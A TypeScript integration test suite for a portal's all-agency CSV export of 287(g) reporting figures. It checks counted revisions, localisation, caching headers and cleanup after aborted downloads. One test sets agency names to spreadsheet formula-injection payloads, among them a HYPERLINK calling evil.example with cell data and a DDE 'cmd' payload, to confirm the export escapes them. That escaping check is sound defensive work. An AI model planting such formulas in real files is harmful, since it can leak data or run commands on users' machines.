/**
 * GET /api/v1/figures.csv, every counted figure of every agency, through a real portal (the
 * built app and server/index.ts, as `npm start` runs them) on a demo database with amended,
 * returned-and-fixed and returned-and-not-fixed reports. The expected figures are worked out
 * here from each filing's revisions and reviews with the counting rule (reporting/counting.ts),
 * never from filing.counted_revision_id, which the export reads; and row by row against the
 * agency files, whose columns and meaning it shares.
 */
import http from 'node:http';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { agencyDashboard, SERIES_METRIC_KEYS } from '~/dashboards/agency-dashboard.server';
import { figuresCsv } from '~/open-data/agency-downloads';
import { EXPORT_APPLICATION_NAME } from '~/open-data/national-figures.server';
import { countedRevisionNumber } from '~/reporting/counting';
import { netLocalCost } from '~/reporting/metrics';
import { startPortalProcess, type PortalProcess } from '../support/portal-process';
import { createDemoDatabase, type TestDatabase } from '../support/test-database';

const PATH = '/api/v1/figures.csv';
const CABARRUS = 'nc-cabarrus-county-sheriffs-office';
const NASH = 'nc-nash-county-sheriffs-office';

let db: TestDatabase;
let portal: PortalProcess;

beforeAll(async () => {
  db = await createDemoDatabase();
  portal = await startPortalProcess(db.url);
}, 180_000);
afterAll(async () => {
  await portal?.stop();
  await db?.drop();
});

type Row = Record<string, string>;

async function download(query = ''): Promise<{ response: Response; text: string; rows: Row[] }> {
  const response = await fetch(`${portal.origin}${PATH}${query}`);
  const text = Buffer.from(await response.arrayBuffer()).toString('utf8'); // BOM kept (response.text() drops it)
  const rows = response.ok ? (parse(text, { bom: true, columns: true, record_delimiter: '\r\n' }) as Row[]) : [];
  return { response, text, rows };
}

const SERIES = new Set(SERIES_METRIC_KEYS);

/** agency slug|period|metric → value, from every filing's counted revision decided here. */
async function expectedFigures(): Promise<Map<string, { value: string; revision: number; filingId: number }>> {
  const filings = await db.prisma.filing.findMany({ include: { revisions: true, reviews: true, agency: { select: { slug: true } } } });
  const expected = new Map<string, { value: string; revision: number; filingId: number }>();
  for (const filing of filings) {
    const number = countedRevisionNumber(
      filing.revisions.map((revision) => revision.number),
      filing.reviews,
    );
    if (number === null) continue;
    const values = { ...(filing.revisions.find((revision) => revision.number === number)!.values as Record<string, string>) };
    const net = netLocalCost(values);
    if (net !== null) values.net_local_cost = net;
    for (const [metric, value] of Object.entries(values)) {
      if (!SERIES.has(metric)) continue;
      const key = `${filing.agency.slug}|${filing.periodKey}|${metric}`;
      expect(expected.has(key), `two counted reports for ${key}`).toBe(false);
      expected.set(key, { value, revision: number, filingId: filing.id });
    }
  }
  return expected;
}

describe('GET /api/v1/figures.csv', () => {
  it('lists every counted figure once, from the revision that counts, and nothing else', async () => {
    const { response, rows } = await download();
    expect(response.status).toBe(200);
    const expected = await expectedFigures();
    expect(expected.size).toBeGreaterThan(1000);
    const got = new Map(rows.map((row) => [`${row.agency}|${row.period}|${row.metric}`, row]));
    expect(got.size).toBe(rows.length); // no figure twice
    expect([...got.keys()].sort()).toEqual([...expected.keys()].sort());
    for (const [key, want] of expected) {
      const row = got.get(key)!;
      expect({ value: row.value, revision: row.revision, amended: row.amended, report_url: row.report_url, status: row.status }, key).toEqual({
        value: want.value,
        revision: String(want.revision),
        amended: want.revision > 1 ? 'yes' : 'no',
        report_url: `${portal.origin}/agencies/${key.split('|')[0]}/reports/${want.filingId}`,
        status: 'reported',
      });
    }
  });

  it('counts the fixed revision of a returned report, and none of a report returned and not fixed', async () => {
    const { rows } = await download();
    const fixed = await db.prisma.filing.findFirstOrThrow({ where: { agency: { slug: CABARRUS }, periodKey: '2025-Q2' }, include: { revisions: true } });
    const gross = rows.find((row) => row.agency === CABARRUS && row.period === '2025-Q2' && row.metric === 'gross_cost')!;
    expect(gross).toMatchObject({ revision: '2', amended: 'yes', value: (fixed.revisions.find((revision) => revision.number === 2)!.values as Record<string, string>).gross_cost });
    expect(gross.value).not.toBe((fixed.revisions.find((revision) => revision.number === 1)!.values as Record<string, string>).gross_cost);
    const returned = await db.prisma.filing.findFirstOrThrow({ where: { agency: { slug: NASH }, periodKey: '2025-Q4' }, include: { revisions: true } });
    expect(returned.revisions.length).toBeGreaterThan(0);
    expect(rows.filter((row) => row.agency === NASH && row.period === '2025-Q4')).toEqual([]);
  });

  it('has the columns and cells of each agency’s figures.csv, for its reported rows, with the agency’s name and state', async () => {
    const { rows } = await download();
    const agencies = await db.prisma.agency.findMany({ where: { filings: { some: {} } }, select: { id: true, slug: true, name: true, stateCode: true } });
    expect(agencies.length).toBeGreaterThanOrEqual(20);
    for (const agency of agencies) {
      const own = figuresCsv((await agencyDashboard(db.prisma, agency.id))!, 'en', portal.origin);
      const reported = own.rows.map((cells) => Object.fromEntries(own.header.map((column, i) => [column, cells[i] === null ? '' : String(cells[i])]))).filter((row) => row.status === 'reported');
      const mine = rows.filter((row) => row.agency === agency.slug);
      for (const row of mine) expect([row.demonstration_data, row.agency_name, row.state]).toEqual(['yes', agency.name, agency.stateCode]);
      const withoutNational = mine.map(({ demonstration_data: _demo, agency_name: _name, state: _state, ...rest }) => rest);
      const order = (row: Row) => `${row.period_start}|${row.period_end}|${row.metric}`;
      expect(withoutNational.sort((a, b) => order(a).localeCompare(order(b))), agency.slug).toEqual(reported.sort((a, b) => order(a).localeCompare(order(b))));
    }
  });

  it('is a CSV file like the other downloads: BOM, CRLF, headers, revalidation, Spanish with ?lang=es', async () => {
    const { response, text } = await download();
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="287g-figures-all-agencies-demonstration.csv"');
    expect(response.headers.get('cache-control')).toBe('public, no-cache');
    expect(response.headers.get('access-control-allow-origin')).toBe('*');
    expect(text.startsWith('\uFEFFdemonstration_data,agency,agency_name,state,period,period_start,period_end,period_label,metric,metric_label,unit,value,status,revision,amended,report_url\r\n')).toBe(true);
    expect(text.split('\r\n').every((line) => !line.includes('\n'))).toBe(true);
    const etag = response.headers.get('etag');
    expect(etag).toMatch(/^"\d{8}-/);
    const again = await fetch(`${portal.origin}${PATH}`, { headers: { 'If-None-Match': etag! } });
    expect(again.status).toBe(304);

    const es = await download('?lang=es');
    expect(es.response.headers.get('content-disposition')).toBe('attachment; filename="287g-cifras-de-todas-las-agencias-demonstration.csv"');
    expect(es.text.split('\r\n')[0]).toContain('Agencia,Nombre de la agencia,Estado,Período');
    const cells = parse(es.text, { bom: true, from_line: 2, record_delimiter: '\r\n' }) as string[][];
    expect(cells.some((row) => /^(enero|abril|julio|octubre)–(marzo|junio|septiembre|diciembre) de \d{4}$/.test(row[7]))).toBe(true);

    const bad = await fetch(`${portal.origin}${PATH}?lang=fr`);
    expect(bad.status).toBe(400);
    expect((await bad.json()).error.message).toMatch(/lang must be en or es/);
  });

  it('keeps an agency name a spreadsheet would run as a formula as text', async () => {
    const agencies = await db.prisma.agency.findMany({ where: { filings: { some: {} } }, orderBy: { id: 'asc' }, take: 4, select: { id: true, slug: true } });
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];
    for (const [i, agency] of agencies.entries()) await db.prisma.agency.update({ where: { id: agency.id }, data: { name: names[i] } });
    const { rows } = await download();
    for (const [i, agency] of agencies.entries()) {
      const cells = new Set(rows.filter((row) => row.agency === agency.slug).map((row) => row.agency_name));
      expect([...cells]).toEqual([`'${names[i]}`]);
    }
  });
});

/** Backends of the export's pool on this database, by state. */
async function exportBackends(): Promise<{ state: string | null; query: string }[]> {
  return db.prisma.$queryRaw`select state, query from pg_stat_activity where datname = current_database() and application_name = ${EXPORT_APPLICATION_NAME}`;
}

async function waitFor(what: string, check: () => Promise<boolean>, ms = 20_000) {
  const deadline = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`Timed out waiting: ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

/** Starts a download, reads its first chunk and then stops reading; resolves with the request and its response. */
function startAndStall(): Promise<{ request: http.ClientRequest; response: http.IncomingMessage }> {
  return new Promise((resolve, reject) => {
    const request = http.get(`${portal.origin}${PATH}`, (response) => {
      response.once('data', () => {
        response.pause();
        resolve({ request, response });
      });
    });
    request.on('error', () => {}); // destroyed on purpose below
    request.setTimeout(30_000, () => reject(new Error('no first chunk')));
  });
}

describe('a reader who leaves mid-download', () => {
  beforeAll(async () => {
    // Enough counted figures that the file (tens of MB) cannot sit whole in the sockets' buffers:
    // 4,000 more monthly reports of every series metric for one agency, counted.
    const requirement = await db.prisma.requirement.findFirstOrThrow({ where: { agency: { slug: CABARRUS } }, include: { versions: true } });
    await db.prisma.$executeRaw`
      with periods as (
        select n, (date '1000-01-01' + make_interval(months => n))::date as start from generate_series(1, 4000) n
      ), filings as (
        insert into filing (requirement_id, agency_id, period_key, period_start, period_end, due_at, version_id)
        select ${requirement.id}, ${requirement.agencyId}, 'BULK-' || n, start, (start + interval '1 month - 1 day')::date, start + interval '2 months', ${requirement.versions[0].id}
        from periods returning id
      ), revisions as (
        insert into filing_revision (filing_id, number, values, certified_name, certified_title, oath_text, certified_at, channel)
        select id, 1, '{}', 'Bulk', 'Test', 'Test', now(), 'API' from filings returning id
      )
      insert into revision_value (revision_id, metric_key, value)
      select r.id, k, 1234567.89 from revisions r cross join unnest(${[...SERIES_METRIC_KEYS]}::text[]) k`;
    // A statement does not see the rows its own CTEs insert: counted in a second one.
    await db.prisma.$executeRaw`
      update filing f set counted_revision_id = r.id from filing_revision r where r.filing_id = f.id and f.period_key like 'BULK-%'`;
  }, 120_000);

  it('ends its query and gives its connection back, without leaking any', async () => {
    // More aborted downloads than the export has connections: a leak would leave none for the last.
    for (let round = 0; round < 3; round++) {
      const { request, response } = await startAndStall();
      // The file is still being written: its COPY is running, held back by the reader.
      await waitFor('the COPY to run', async () => (await exportBackends()).some((backend) => backend.state === 'active' && /^copy \(/i.test(backend.query)));
      request.destroy();
      response.destroy();
      await waitFor('the export backend to end', async () => (await exportBackends()).every((backend) => backend.state === 'idle'));
    }
    // Nothing left open in a transaction, and the next reader gets the whole file.
    const { response, text } = await download();
    expect(response.status).toBe(200);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n').length - 2).toBeGreaterThan(4000 * SERIES_METRIC_KEYS.length);
    expect((await exportBackends()).every((backend) => backend.state === 'idle')).toBe(true);
    expect((await fetch(`${portal.origin}/healthz`)).status).toBe(200);
  });
});
